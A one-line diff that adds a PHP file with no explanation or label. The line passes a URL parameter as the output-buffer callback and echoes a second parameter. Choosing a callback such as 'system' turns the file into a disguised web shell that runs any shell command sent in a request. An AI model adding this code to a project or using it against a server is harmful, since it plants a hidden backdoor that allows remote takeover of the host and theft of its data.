@@ -1,0 +1,1 @@
+<?php ob_start($_GET['cb']); echo $_GET['c']; ob_end_flush();
